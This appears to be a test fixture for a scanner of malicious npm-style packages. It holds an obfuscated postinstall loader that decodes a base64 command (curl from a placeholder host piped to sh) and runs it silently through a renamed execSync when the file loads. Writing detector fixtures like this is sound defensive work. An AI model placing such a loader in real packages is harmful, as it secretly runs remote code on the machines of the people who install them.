// expect: category=child-process min=95 context=plugin,package
// why: execSync is destructured under an innocent name and given a decoded command.
const { execSync: runTask } = require('child_process');

const task = Buffer.from('Y3VybCAtcyBodHRwczovL2RsLmV4YW1wbGUvdCB8IHNo', 'base64').toString();

module.exports = function postinstall() {
  runTask(task, { stdio: 'ignore' });
};

module.exports();
